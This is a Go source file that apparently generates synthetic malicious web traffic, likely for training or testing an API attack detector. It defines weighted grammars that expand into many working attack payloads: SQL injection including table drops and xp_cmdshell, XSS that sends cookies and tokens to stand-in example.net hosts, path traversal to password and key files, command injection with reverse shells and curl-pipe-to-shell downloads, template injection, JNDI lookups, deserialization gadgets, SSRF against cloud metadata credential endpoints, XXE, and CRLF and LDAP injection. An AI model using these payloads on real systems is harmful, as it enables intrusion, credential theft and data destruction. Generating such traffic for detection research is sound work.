package generate

import (
	"bytes"
	"math/rand/v2"
	"slices"
	"strconv"
	"unicode/utf8"

	"apiml/traffic"
)

// payloadRules are the grammars of what attackers send. Each technique is a
// rule of its own; a campaign uses a few of them, with one habit of evasion.
func payloadRules() source {
	return source{
		// SQL injection.
		{"sq", "6~'\n2~\"\n1~')\n1~'))\n1~\")\n1~`\n1~\\'"},
		{"sqn", "4~«sq»\n4~∅\n1~)\n1~))"},
		{"sqend", "6~-- -\n5~--\n4~#\n2~-- «a3»\n2~/*\n1~;--\n1~;%00\n1~-- '\n1~--+\n1~;#"},
		{"sqend0", "3~«sqend»\n1~∅"},
		{"tbl", `
6~users
2~user
2~admin
2~accounts
2~customers
2~orders
1~members
1~wp_users
1~tbl_«slugnoun»
1~«slugnoun»s
1~dbo.«slugnoun»
2~information_schema.tables
2~information_schema.columns
1~information_schema.schemata
1~mysql.user
1~pg_catalog.pg_tables
1~pg_shadow
1~sqlite_master
1~sysobjects
1~all_tables
1~sys.databases`},
		{"col", `
4~password
3~username
3~email
2~passwd
2~pass
2~id
2~login
1~user_pass
1~credit_card
1~token
1~table_name
1~column_name
1~schema_name
1~«slugword»
1~secret
1~ssn`},
		{"sqf", `
3~version()
2~@@version
2~database()
2~user()
1~current_user
1~@@hostname
1~@@datadir
1~banner
1~system_user
1~sqlite_version()
1~current_database()
1~db_name()
1~«col»
1~concat(«col»,0x3a,«col»)
1~concat_ws(0x3a,«col»,«col»)
1~group_concat(«col»)
1~group_concat(«col»,0x7c,«col» separator 0x3c62723e)
1~«col»||'~'||«col»
1~string_agg(«col»,',')
1~load_file('/etc/passwd')
1~load_file(0x«hex8»«x4»)
1~unhex(hex(«col»))
1~cast(«col» as char)
1~char(«nn»,«nn»,«nn»)
1~chr(«nn»)||chr(«nnn»)
1~md5(«n6»)
1~json_arrayagg(concat_ws(0x3a,«col»,«col»))`},
		{"sv", `
6~null
5~«n»
2~«sqf»
1~'«a3»'
1~0x«hex8»
1~«nnn»
1~char(«nn»)
1~@@version`},
		{"svs", `
3~«sv»
4~«sv»,«sv»
5~«sv»,«sv»,«sv»
3~«sv»,«sv»,«sv»,«sv»
2~«sv»,«svs»
1~«sv»,«sv»,«sv»,«sv»,«svs»`},
		{"sqBare", `
3~«n» «andor» «cmpn»
2~«slugword»' «andor» «cmpn»«sqend0»
2~(select «sqf» from «tbl»)
1~having «cmpn»
1~«n» and (select 1)=1
1~select «sv» from «tbl»
1~select «col» from «tbl» where «col»=«n»
1~select «sqf» from dual
1~; select * from «tbl»
1~union select «svs»
1~or «cmpn»«sqend0»
1~order by «nn»
1~a' group by «col»«sqend»
1~insert into «tbl» values («svs»)
1~«col» in (select «col» from «tbl»)
1~1;drop table «tbl»
1~' or username like '%«a1»%
1~«slugname»'--
1~exec sp_«a6» '«a3»'
1~bfilename('«a3»','«a3»')
1~declare @«a1» int`},
		{"cmpn", `
5~«n»=«n»
6~1=1
2~1=2
2~«n4»=«n4»
2~'«a1»'='«a1»'
1~'«a3»' like '«a1»%'
1~«n»<«nn»
1~«nn» between «n» and «nnn»
1~1 in (1,«n»)
1~true
1~not false
1~1 is not null
1~«n»*«n»=«nn»
1~2>1
1~''=''
1~"«a1»"="«a1»
1~0x«x2»=0x«x2»
1~«n» xor 0
1~1 rlike 1
1~'«a1»' is not null`},
		{"cmpq", "3~'1'='1\n2~'«a1»'='«a1»\n1~'«n»'='«n»\n1~''='\n1~'«a3»' like '«a3»\n1~\"1\"=\"1\n1~1=1 or ''='\n1~'«a1»'<'z"},
		{"andor", "5~or\n4~and\n1~||\n1~&&\n1~xor\n1~or not"},
		{"sqTaut", `
5~«sqn» «andor» «cmpn»«sqend»
4~«sq» «andor» «cmpq»
3~«sqn» «andor» «cmpn»
2~«sq»«andor»(«cmpn»)«sqend»
2~admin«sq»«sqend»
2~«slugname»«sq» «andor» «cmpn»«sqend»
1~«sq»=«sq»
1~«sq»-«sq»
1~«sq»||«cmpn»«sqend»
1~«sqn») «andor» («cmpn»
1~«sqn» «andor» «cmpn» limit «n»«sqend»
1~«sqn» «andor» «cmpn» order by «n»«sqend»
1~«sqn» group by «col» having «cmpn»«sqend»
1~«sq» «andor» «col» is not null«sqend»
1~«sq» «andor» «col» like '%«a1»%
1~-«n»«sqn» «andor» «cmpn»«sqend0»
1~«sq»/**/«andor»/**/«cmpn»«sqend»`},
		{"sqUnion", `
8~«sqn» union select «svs»«sqend0»
5~«sqn» union all select «svs»«sqend»
4~-«n»«sqn» union select «svs» from «tbl»«sqend0»
4~«sqn» union all select «svs» from «tbl»«sqend»
2~«sqn» union select «svs» from «tbl» where «col»='«slugname»'«sqend»
2~«sqn» union select «svs» from «tbl» limit «n»,1«sqend»
1~«sqn» union distinct select «svs»«sqend»
1~«sqn») union (select «svs» from «tbl»)«sqend»
1~«sqn» union select * from (select «sv»)a join (select «sv»)b«sqend»
1~«sqn» union select «svs» into outfile '/var/www/html/«a6».php'«sqend»
3~«sqn» order by «nn»«sqend»
2~«sqn» order by «n»«sqend»
1~«sqn» procedure analyse()«sqend»
1~«sqn» and 1=0 union select «svs» from «tbl» where table_schema=database()«sqend»
1~«sqn» union values(«svs»)«sqend»`},
		{"sqError", `
3~«sqn» and extractvalue(«n»,concat(0x«x2»,(select «sqf»)))«sqend0»
3~«sqn» and updatexml(«n»,concat(0x7e,(select «sqf» from «tbl» limit «n»,1),0x7e),«n»)«sqend0»
2~«sqn» and (select «n4» from(select count(*),concat(0x«hex8»,(select «sqf»),0x«hex8»,floor(rand(0)*2))x from information_schema.tables group by x)a)«sqend»
2~«sqn» and 1=convert(int,(select top 1 «sqf» from «tbl»))«sqend»
2~«sqn» and 1=cast((select «sqf») as int)«sqend0»
1~«sqn» and «n4»=utl_inaddr.get_host_address((select «sqf» from dual))«sqend»
1~«sqn» and 1=ctxsys.drithsx.sn(«n»,(select «sqf» from dual))«sqend»
1~«sqn» and exp(~(select*from(select «sqf»)x))«sqend»
1~«sqn» and gtid_subset(concat(0x«x4»,(select «sqf»)),«n4»)«sqend»
1~«sqn» and json_keys((select convert((select concat(0x«x4»,«sqf»)) using utf8)))«sqend»
1~«sqn» and polygon((select*from(select*from(select «sqf»)a)b))«sqend»
2~«sq»
1~«sq»«sq»
1~«sq»)«a3»
1~«n»/0
1~«sqn» and «n4»=(select upper(xmltype(chr(60)||chr(58)||(select «sqf» from dual)||chr(62))) from dual)«sqend»
1~(select «sqf» from «tbl»)`},
		{"sqBlind", `
3~«sqn» and ascii(substring((select «sqf» from «tbl» limit «n»,1),«n»,1))>«nn»«sqend0»
3~«sqn» and (select substring(«sqf»,«n»,1))='«a1»'«sqend0»
2~«sqn» and ord(mid((select ifnull(cast(«sqf» as nchar),0x20)),«n»,1))>«nn»«sqend»
2~«sqn» and length(«sqf»)=«nn»«sqend0»
2~«sqn» and exists(select «n» from «tbl»)«sqend0»
1~«sqn» and (select count(*) from «tbl»)>«n»«sqend»
1~«sqn» and «sqf» like '«a1»%'«sqend»
1~«sqn» rlike (select (case when («cmpn») then «n» else 0x28 end))«sqend0»
1~«sqn» and case when «cmpn» then 1 else (select «n» union select «n») end«sqend»
1~if(«cmpn»,«n»,(select table_name from information_schema.tables))
1~(case when «cmpn» then «n» else «n» end)
1~«sqn» and bitand(«n»,«n»)>0«sqend»
1~«sqn» and «sqf» regexp '^[a-«a1»]'«sqend»
1~«sqn» and iif(«cmpn»,1,0)=1«sqend»
1~«sqn» and strcmp(substr(«sqf»,«n»,1),char(«nn»))«sqend»`},
		{"sqTime", `
4~«sqn» and sleep(«n»)«sqend0»
3~«sqn» or sleep(«n»)«sqend»
3~«sqn» and (select «n4» from (select(sleep(«n»)))«a6»)«sqend0»
2~«sqn» and if(«cmpn»,sleep(«n»),0)«sqend0»
2~«sqn»;waitfor delay '0:0:«n»'«sqend»
2~«sqn» waitfor delay '00:00:0«n»'«sqend»
2~«sqn»;select pg_sleep(«n»)«sqend»
2~«sqn»||pg_sleep(«n»)«sqend0»
1~«sqn» and «n4»=(select «n4» from pg_sleep(«n»))«sqend0»
1~«sqn» and benchmark(«big»,md5(«n»))«sqend»
1~«sqn» and «n4»=dbms_pipe.receive_message(chr(«nn»)||chr(«nn»),«n»)«sqend»
1~«sqn»-(select*from(select(sleep(«nn»)))a)«sqend0»
1~'xor(if(now()=sysdate(),sleep(«n»),0))xor'z
1~0"xor(if(now()=sysdate(),sleep(«n»),0))xor"z
1~(select(0)from(select(sleep(«n»)))v)/*'+(select(0)from(select(sleep(«n»)))v)+'*/
1~«sqn» and 1=like('abcdefg',upper(hex(randomblob(«big»))))«sqend»`},
		{"sqStack", `
3~«sqn»;drop table «tbl»«sqend0»
2~«sqn»; update «tbl» set «col»='«tok»' where «col»='«slugname»'«sqend»
2~«sqn»;insert into «tbl» («col»,«col») values ('«a6»','«tok»')«sqend»
1~«sqn»; delete from «tbl» where «cmpn»«sqend»
1~«sqn»; exec master..xp_cmdshell 'ping «n».«nn».«nn».«n»'«sqend»
1~«sqn»;exec xp_dirtree '\\\\«a6».example.net\«a3»'«sqend»
1~«sqn»;declare @«a1» varchar(8000);set @«a1»=0x«hex32»;exec(@«a1»)«sqend»
1~«sqn»; shutdown«sqend»
1~«sqn»;copy «tbl»(«col») from '/etc/passwd'«sqend»
1~«sqn»;create table «a6»(«a3» text)«sqend»
1~«sqn»;select «sqf»«sqend»
1~«sqn»; alter table «tbl» drop column «col»«sqend»
1~«sqn»;grant all on *.* to '«a6»'@'%'«sqend»
1~«sqn»;truncate «tbl»«sqend»
1~«sqn»;exec sp_makewebtask '\\\\«nn».«nn».«n».«n»\«a3»','select * from «tbl»'«sqend»
1~«sqn»;prepare «a3» from concat('sel','ect «n»');execute «a3»«sqend»`},
		// Cross-site scripting.
		{"js", `
8~alert(«n»)
3~alert(document.cookie)
3~alert('«a3»')
3~alert(document.domain)
3~confirm(«n»)
2~prompt(«n»)
2~alert` + "`«n»`" + `
2~alert("«a6»")
1~alert(String.fromCharCode(«nn»,«nn»,«nn»))
1~eval(atob('«b64bin»'))
1~eval(location.hash.slice(1))
1~document.location='//«a6».example.net/?c='+document.cookie
1~new Image().src='https://«a6».example.net/«a3»?'+document.cookie
1~fetch('//«a6».example.net/'+localStorage.token)
1~window['al'+'ert'](«n»)
1~top[/al/.source+/ert/.source](«n»)
1~self['\x61lert'](«n»)
1~(alert)(«n»)
1~[].constructor.constructor('alert(«n»)')()
1~setTimeout('alert(«n»)')
1~import('//«a6».example.net/x.js')
1~console.log(«n4»)
1~print()
1~location='javascript:alert(«n»)'
1~$.getScript('//«a6».example.net/«a3».js')
1~parent.alert(«n»)
1~throw onerror=alert,«n»
1~a=alert;a(«n»)
1~\u0061lert(«n»)
1~document.write('<img src=//«a6».example.net/?'+document.cookie+'>')
1~navigator.sendBeacon('//«a6».example.net',document.body.innerHTML)`},
		{"hev", `
6~onerror
5~onload
4~onmouseover
3~onclick
3~onfocus
2~ontoggle
1~onmouseenter
1~onanimationstart
1~onpointerover
1~onwheel
1~onbegin
1~onpageshow
1~oncopy
1~onhashchange
1~onkeyup
1~onstart
1~onbeforeprint
1~ontouchstart
1~onscroll
1~onloadstart
1~oninput
1~onsubmit
1~onblur`},
		{"brk", "6~∅\n4~\">\n3~'>\n1~>\n1~\"/>\n1~</title>\n1~</textarea>\n1~--></style></script>\n1~</script>\n1~'\">\n1~]]>\n1~«slugword»\">\n1~«n»'\"()&%\n1~</noscript>"},
		{"asp", "9~ \n1~/\n1~\\t\n1~\\n\n1~/**/\n1~  \n1~\\r\\n"},
		{"tagn", "4~img\n4~svg\n2~body\n2~video\n2~input\n1~details\n1~iframe\n1~audio\n1~marquee\n1~object\n1~a\n1~div\n1~select\n1~math\n1~style\n1~«a3»\n1~form\n1~button\n1~table\n1~isindex\n1~x\n1~custom-«a3»\n1~keygen\n1~textarea\n1~embed\n1~frameset"},
		{"aval", "4~«js»\n4~\"«js»\"\n3~'«js»'\n1~\"javascript:«js»\"\n1~«js»//\n1~«ent»"},
		{"ent", "&#«nn»;&#x«x2»;&#«nnn»;alert(«n»)\n&#x61;lert(«n»)\n&#97;l&#101;rt(«n»)\nal&Tab;ert(«n»)\nalert&lpar;«n»&rpar;\n&#0000097lert(«n»)"},
		{"xsScript", `
9~«brk»<script>«js»</script>
2~«brk»<script>«js»//
2~«brk»<script src=//«a6».example.net/«a3».js></script>
2~«brk»<script src="https://«a6».example.net/«tok»"></script>
1~«brk»<script«asp»type="text/javascript">«js»;</script>
1~«brk»<scr<script>ipt>«js»</scr</script>ipt>
1~«brk»<script«asp»~~~>«js»</script«asp»>
1~«brk»<<script>«js»//<</script>
1~«brk»<script/«a3»>«js»</script>
1~«brk»<svg><script>«js»</script>
1~«brk»<script>/*«a3»*/«js»/*«a3»*/</script>
1~«brk»<script«asp»defer>var «a1»=«n»;«js»</script>
1~«brk»<noscript><p title="</noscript><script>«js»</script>">
1~«brk»<script>«js»;«js»</script>
1~«brk»<script xmlns="http://www.w3.org/1999/xhtml">«js»</script>`},
		{"xsEvent", `
6~«brk»<«tagn»«asp»src=«a1»«asp»«hev»=«aval»>
4~«brk»<«tagn»«asp»«hev»=«aval»>
3~«brk»<«tagn»/«hev»=«aval»>
2~«brk»<«tagn»«asp»«hev»=«aval»«asp»autofocus>
2~«brk»<«tagn»«asp»id=«a3»«asp»tabindex=1«asp»«hev»=«aval»></«tagn»>
2~«brk»<«tagn»«asp»style="«slugword»:«a3»"«asp»«hev»=«aval»>«word»</«tagn»>
1~«brk»<«tagn»«asp»src="«a3».«a3»"«asp»«a3»=«n»«asp»«hev»=«aval»
1~«brk»<«tagn»«asp»«hev»«asp»=«asp»«aval»>
1~«brk»<«tagn»«asp»open«asp»«hev»=«aval»>
1~«brk»<video><source«asp»«hev»=«aval»>
1~«brk»<«tagn» x="«a3»" «hev»=«aval» y='`},
		{"xsAttr", `
4~"«asp»«hev»=«aval»«asp»«a1»="
3~'«asp»«hev»=«js»«asp»'
2~"«asp»autofocus«asp»«hev»=«aval»«asp»x="
2~«slugword»"«asp»«hev»="«js»
1~"«asp»style="x:expression(«js»)
1~' style=animation-name:«a3» «hev»=«js» '
1~" accesskey=x onclick="«js»" x="`},
		{"jsp", "5~javascript:\n1~JaVaScRiPt:\n1~java\\tscript:\n1~java\\nscript:\n1~&#106;avascript:\n1~javascript&colon;\n1~ javascript:\n1~vbscript:\n1~data:text/html,\n1~javascript:/*«a3»*/\n1~javascript://%0a\n1~jav&#x0A;ascript:"},
		{"xsUri", `
4~«jsp»«js»
3~«brk»<a href="«jsp»«js»">«word»</a>
2~«brk»<iframe src="«jsp»«js»"></iframe>
2~data:text/html;base64,«b64bin»
1~«brk»<object data="data:text/html;base64,«b64bin»">
1~«brk»<form action="«jsp»«js»"><button>«word»
1~«brk»<embed src=«jsp»«js»>
1~«brk»<meta http-equiv="refresh" content="0;url=«jsp»«js»">
1~«brk»<link rel=stylesheet href="«jsp»«js»">
1~«brk»<base href="«jsp»«js»//">
1~«brk»<math><maction actiontype="statusline" xlink:href="«jsp»«js»">«word»
1~«brk»<svg><a xlink:href="«jsp»«js»"><text x=«nn» y=«nn»>«word»</text></a>
1~«brk»<iframe srcdoc="<script>«js»</script>">
1~«brk»<isindex type=image src=1 onerror=«js»>
1~«brk»<svg><animate attributeName=href values=«jsp»«js» />
1~«brk»<style>@import'«jsp»«js»';</style>
1~«brk»<table background="«jsp»«js»">`},
		{"xsJs", `
3~';«js»;//
3~";«js»;//
2~'-«js»-'
2~"-«js»-"
2~\';«js»//
1~</script><script>«js»</script>
1~${«js»}
1~';«js»;var «a1»='
1~*/«js»/*
1~'+«js»+'
1~"};«js»;{"
1~{{constructor.constructor('«js»')()}}
1~{{$on.constructor('«js»')()}}
1~«n»;«js»
1~%27);«js»//`},
		{"xsBare", `
3~«js»
2~<«tagn»>
2~<«a3»>«word»</«a3»
1~'"><«a3»>
1~«hev»=«aval»
1~<!--«a3»--><«tagn»
1~"><h1>«word»</h1>
1~<«tagn» style="«slugword»:url(«jsp»«js»)">
1~<link rel=import href=//«a6».example.net>
1~{}*{x:expression(«js»)}
1~<?xml version="1.0"?><«a3» xmlns:«a1»="http://www.w3.org/1999/xhtml"><«a1»:script>«js»</«a1»:script></«a3»>
1~<![CDATA[<]]>script<![CDATA[>]]>«js»
1~<plaintext>
1~<div draggable=true ondragstart=«js»>
1~<x contenteditable onblur=«js»>«word»`},
		// Path traversal. These are encoded already.
		{"dd", "9~../\n3~..%2f\n2~%2e%2e/\n2~%2e%2e%2f\n2~..%5c\n2~..\\\n1~..%252f\n1~%252e%252e%252f\n1~....//\n1~..;/\n1~..%c0%af\n1~%c0%ae%c0%ae/\n1~..%u2215\n1~.%2e/\n1~..././\n1~..%00/\n1~....\\/\n1~%%32%65%%32%65/"},
		{"ptFile", `
9~etc/passwd
3~etc/shadow
2~etc/hosts
2~proc/self/environ
2~proc/self/cmdline
2~windows/win.ini
1~winnt/win.ini
1~winnt\system32\cmd.exe?/c+dir
1~autoexec.bat
2~windows\win.ini
2~boot.ini
2~var/log/apache2/access.log
1~var/log/nginx/error.log
2~etc/group
1~etc/hostname
1~root/.ssh/id_rsa
1~home/«slugname»/.ssh/authorized_keys
1~home/«slugname»/.bash_history
1~etc/nginx/nginx.conf
1~usr/local/apache2/conf/httpd.conf
2~WEB-INF/web.xml
1~WEB-INF/classes/application.properties
1~windows/system32/drivers/etc/hosts
1~windows/repair/sam
1~inetpub/wwwroot/web.config
2~.env
1~config/database.yml
1~app/config/parameters.yml
1~wp-config.php
1~var/www/html/config.php
1~proc/self/fd/«n»
1~etc/mysql/my.cnf
1~var/run/secrets/kubernetes.io/serviceaccount/token
1~opt/«slugnoun»/conf/«slugword».xml
1~var/lib/«slugnoun»/«slugword».db
1~etc/«slugnoun».conf
1~tmp/sess_«hex32»
1~usr/share/«slugnoun»/«slugword».ini`},
		{"ptSuf", "12~∅\n1~%00\n1~%00.jpg\n1~%00.html\n1~%3f\n1~%2500.png\n1~.\n1~/.\n1~%23\n1~;.css"},
		{"ptAbs", `
3~/«ptFile»«ptSuf»
2~file:///«ptFile»
2~C:\windows\win.ini«ptSuf»
2~c:/«ptFile»
2~php://filter/convert.base64-encode/resource=«slugnoun».php
1~php://filter/read=string.rot13/resource=../«slugnoun».php
1~php://input
1~%2f«ptFile»«ptSuf»
1~/proc/self/root/«ptFile»
1~\\\\«nn».«nn».«n».«n»\c$\windows\win.ini
1~/var/www/../../«ptFile»
1~zip://uploads/«file2».zip%23«a3».php
1~expect://id
1~phar:///tmp/«a6».phar
1~/./././././«ptFile»
1~/%2e/«ptFile»
1~//«ptFile»
1~jar:file:///«slugnoun».jar!/«a3».xml
1~file%3A%2F%2F%2F«ptFile»`},
		// Command injection, template injection, lookups.
		{"csep", "6~;\n4~|\n3~&&\n3~||\n2~&\n2~\\n\n1~\\r\\n\n1~`\n1~;;\n1~ ; \n1~'; \n1~\"; \n1~);\n1~|&\n1~%0a\n1~\";\n1~'|\n1~{;"},
		{"csp", "9~ \n2~${IFS}\n1~$IFS$9\n1~<\n1~\\t\n1~{,}\n1~%09\n1~$IFS"},
		{"cfile", "6~/etc/passwd\n2~/etc/shadow\n1~/etc/hosts\n1~/proc/version\n1~/e??/p?ss??\n1~/etc/p*d\n1~.env\n1~/var/www/html/«slugnoun».php\n1~/etc/'p'asswd\n1~$HOME/.ssh/id_rsa\n1~C:\\windows\\win.ini\n1~/home/«slugname»/.bash_history"},
		{"chost", "3~«nnn».«nn».«nn».«n»\n3~«a6».example.net\n1~«tok».«a6».example.net\n1~127.0.0.1\n1~0x7f000001"},
		{"ccat", "9~cat\n2~c'a't\n1~c\\at\n1~/bin/cat\n1~/???/c?t\n1~tac\n1~head\n1~more\n1~c$@at\n1~less\n1~nl\n1~type\n1~od -c\n1~base64\n1~xxd"},
		{"ccmd", `
6~id
5~«ccat»«csp»«cfile»
4~whoami
3~ls
2~ls«csp»-la
2~ls«csp»/
3~uname«csp»-a
3~ping«csp»-c«csp»«n»«csp»«chost»
2~sleep«csp»«n»
2~curl«csp»http://«chost»/«a6».sh|sh
2~wget«csp»http://«chost»/«a3»«csp»-O«csp»/tmp/«a3»
2~nslookup«csp»«chost»
1~ifconfig
1~pwd
1~env
1~netstat«csp»-an
1~ps«csp»aux
1~nc«csp»-e«csp»/bin/sh«csp»«chost»«csp»«n4»
1~bash«csp»-c«csp»{echo,«b64bin»}|{base64,-d}|bash
1~bash«csp»-i«csp»>&/dev/tcp/«chost»/«n4»«csp»0>&1
1~python3«csp»-c«csp»'import«csp»os;os.system("«a3»")'
1~php«csp»-r«csp»'system("id");'
1~perl«csp»-e«csp»'print«csp»«n4»*«n»'
1~powershell«csp»-nop«csp»-enc«csp»«b64bin»
1~cmd«csp»/c«csp»dir
1~dir«csp»c:\
1~net«csp»user
1~systeminfo
1~echo«csp»«hex8»
1~expr«csp»«nnn»«csp»+«csp»«nnn»
1~rm«csp»-rf«csp»/tmp/«a3»
1~chmod«csp»777«csp»/tmp/«a3»;/tmp/«a3»
1~touch«csp»/tmp/«a6»
1~w'h'o'a'mi
1~w\ho\ami
1~$(printf«csp»'\x69\x64')
1~echo«csp»«b64bin»|base64«csp»-d|sh
1~find«csp»/«csp»-name«csp»«slugnoun».conf
1~tftp«csp»-g«csp»-r«csp»«a3»«csp»«chost»
1~busybox«csp»wget«csp»http://«chost»/«a3»
1~crontab«csp»-l
1~dig«csp»«chost»
1~grep«csp»root«csp»/etc/passwd
1~awk«csp»'BEGIN{system("id")}'`},
		{"cmShell", `
8~«csep»«ccmd»
4~«csep»«ccmd»«csep»
3~$(«ccmd»)
3~` + "`«ccmd»`" + `
2~«slugword»«csep»«ccmd»
2~127.0.0.1«csep»«ccmd»
2~«csep»«ccmd»«csp»#
1~«file2».jpg«csep»«ccmd»
1~"«csep»«ccmd»«csep»"
1~'«csep»«ccmd»«csep»'
1~«n»«csep»«ccmd»«csep»«ccmd»
1~«csep»{«ccmd»}
1~«csep»(«ccmd»)
1~| «ccmd» ||
1~«csep»«ccmd»>/dev/null«csp»2>&1
1~() { :;}; «ccmd»
1~«csep»a=«a3»;«ccmd»
1~$((«nn»+«nn»))$(«ccmd»)
1~@(«ccmd»)
1~«csep»«ccmd»|«csp»tee«csp»/tmp/«a3»`},
		{"texp", `
5~«nn»*«nn»
4~«n»*'«n»'
2~config
2~self
1~config.items()
1~request.application.__globals__.__builtins__.__import__('os').popen('«ccmd»').read()
1~''.__class__.__mro__[«n»].__subclasses__()
1~''.__class__.__base__.__subclasses__()[«nnn»]('«ccmd»',shell=True)
1~cycler.__init__.__globals__.os.popen('«ccmd»').read()
1~lipsum.__globals__['os'].popen('«ccmd»').read()
1~T(java.lang.Runtime).getRuntime().exec('«ccmd»')
1~"freemarker.template.utility.Execute"?new()("«ccmd»")
1~_self.env.registerUndefinedFilterCallback("exec")
1~['id']|filter('system')
1~range.constructor("return global.process.mainModule.require('child_process').execSync('«ccmd»')")()
1~this.constructor.constructor('return process.env')()
1~settings.SECRET_KEY
1~dump(app)
1~@java.lang.Runtime@getRuntime().exec("«ccmd»")`},
		{"cmTmpl", `
6~{{«texp»}}
3~${«texp»}
2~#{«texp»}
2~<%= «texp» %>
1~*{«texp»}
1~%{«texp»}
1~[[${«texp»}]]
1~{%if «cmpn»%}«a3»{%endif%}
1~{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
1~#set($x=«nn»*«nn»)$x
1~@{«texp»}
1~{php}echo ` + "`«ccmd»`" + `;{/php}
1~{system('«ccmd»')}
1~<#assign ex="freemarker.template.utility.Execute"?new()>${ex("«ccmd»")}
1~%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='«ccmd»')}
1~a{*comment*}b{{«nn»*«nn»}}
1~class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{«a3»}i`},
		{"jproto", "6~ldap\n2~rmi\n2~dns\n1~ldaps\n1~${lower:l}dap\n1~${::-l}${::-d}${::-a}${::-p}\n1~${env:«a3»:-l}dap\n1~${lower:${lower:r}}mi\n1~iiop"},
		{"jndi", "5~jndi\n1~${lower:j}ndi\n1~${::-j}${::-n}${::-d}${::-i}\n1~j${env:«a3»:-n}di\n1~${upper:j}ndi\n1~jn${lower:d}i\n1~${lower:jndi}\n1~${env:BARFOO:-j}nd${env:BARFOO:-i}"},
		{"cmJndi", "6~${«jndi»:«jproto»://«chost»/«a3»}\n3~${«jndi»:«jproto»://«chost»:«n4»/«tok»}\n1~${«jndi»:«jproto»://${env:USER}.«chost»/a}\n1~${«jndi»:«jproto»://${hostName}.«chost»}\n1~${script:javascript:java.lang.Runtime.getRuntime().exec('«ccmd»')}\n1~${url:UTF-8:http://«chost»/«a3»}\n1~${«jndi»:«jproto»://127.0.0.1#«chost»/«a3»}"},
		{"cmSer", `
2~rO0ABXNyAB«b64bin»
2~O:«n»:"«slugnoun»":«n»:{s:«n»:"«a3»";s:«nn»:"«ccmd»";}
1~a:1:{i:0;O:«nn»:"Monolog\Handler\SyslogUdpHandler":1:{s:9:"«a6»";O:29:"«a3»"}}
1~{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('«ccmd»')}()"}
1~!!python/object/apply:os.system ["«ccmd»"]
1~!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://«chost»/"]]]]
1~cos\nsystem\n(S'«ccmd»'\ntR.
1~{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"«jproto»://«chost»/«a3»","autoCommit":true}
1~gASVI«b64bin»
1~<?php system($_GET['«a1»']); ?>
1~<?= ` + "`$_GET[«n»]`" + ` ?>
1~assert("«ccmd»")
1~eval(base64_decode('«b64bin»'));
1~__import__('os').system('«ccmd»')
1~<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("«ccmd»"); %>
1~<!--#exec cmd="«ccmd»" -->
1~system("«ccmd»");
1~passthru('«ccmd»')
1~require('child_process').exec('«ccmd»')`},
		// Others.
		{"inhost", `
5~169.254.169.254
3~127.0.0.1
3~localhost
2~metadata.google.internal
2~10.«nn».«n».«nn»
2~192.168.«n».«nn»
1~172.16.«n».«nn»
1~[::1]
1~[::ffff:a9fe:a9fe]
1~0.0.0.0
1~2130706433
1~0x7f.1
1~0177.0.0.1
1~127.1
1~«nn».«nn».«n».«n».nip.io
1~100.100.100.200
1~127.0.0.1.«a6».example.net
1~kubernetes.default.svc
1~consul.service.consul
1~①②⑦.⓪.⓪.①`},
		{"inpath", `
4~/latest/meta-data/iam/security-credentials/
3~/latest/meta-data/
2~/latest/user-data
2~/computeMetadata/v1/instance/service-accounts/default/token
1~/latest/api/token
1~/metadata/instance?api-version=2021-02-01
2~/admin
1~/server-status
1~/«slugnoun»
1~/v2/keys/?recursive=true
1~/_cat/indices
1~/actuator/env
1~/api/v1/namespaces/default/secrets
1~/
1~:«n4»/
1~:22
1~:6379/
1~:9200/_search
1~:2375/containers/json`},
		{"oxSsrf", `
8~http://«inhost»«inpath»
2~https://«inhost»«inpath»
1~http://«slugname»@«inhost»«inpath»
1~http://«slugnoun».example.com@«inhost»«inpath»
1~http://«inhost»#«slugnoun».example.com
1~gopher://«inhost»:6379/_*1%0d%0a$8%0d%0aflushall
1~gopher://«inhost»:25/_HELO%20«a6»
1~dict://«inhost»:«n4»/info
1~ftp://«inhost»/«a3»
1~ldap://«inhost»:389/%0astats
1~//«inhost»«inpath»
1~http:\\\\«inhost»«inpath»
1~url:http://«inhost»«inpath»
1~tftp://«inhost»:69/«a3»
1~netdoc:///etc/passwd
1~http://«inhost»%23@«slugnoun».example`},
		{"oxXxe", `
4~<?xml version="1.0"?><!DOCTYPE «a6» [<!ENTITY «a3» SYSTEM "file:///«ptFile»">]><«a6»>&«a3»;</«a6»>
2~<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE «a3» [<!ENTITY % «a3» SYSTEM "http://«chost»/«a3».dtd">%«a3»;]><«a6»/>
1~<!DOCTYPE «a3» [<!ENTITY a "«a3»"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><«a3»>&c;</«a3»>
1~<«a6» xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///«ptFile»"/></«a6»>
1~<!DOCTYPE «a3» SYSTEM "http://«chost»/«a6».dtd"><«a3»/>
1~<!DOCTYPE «a6» PUBLIC "«a3»" "http://«inhost»«inpath»"><«a6»>«word»</«a6»>
1~<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///«ptFile»"/><text>&«a3»;</text></svg>
1~<?xml version="1.0"?><!DOCTYPE r [<!ELEMENT r ANY><!ENTITY «a3» SYSTEM "php://filter/convert.base64-encode/resource=«slugnoun».php">]><r>&«a3»;</r>`},
		{"oxCrlf", `
4~%0d%0aSet-Cookie:%20«a6»=«tok»
3~%0d%0aLocation:%20https://«chost»/
2~«slugword»%0d%0aX-«a6»:%20«a3»
2~%0aSet-Cookie:«a3»=«n»
1~«slugword»%0aSet-cookie:%20«a6»=«tok»
1~«slugword»%0d%0aSet-cookie:«a6»=«n»
1~«a3»?%0aset-cookie:+«a6»=«n»
1~%0aLocation:%20//«chost»
1~%E5%98%8A%E5%98%8DSet-Cookie:%20«a6»=«a3»
1~%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a«word»
1~%250d%250aX-«a3»:%20«n»
1~%u000d%u000aLocation:%20//«chost»
1~%0d%20%0aRefresh:%200;url=//«chost»
1~%23%0d%0aX-Forwarded-For:%20127.0.0.1`},
		{"oxLdap", `
2~*)(uid=*))(|(uid=*
2~*)(&
1~admin)(&)
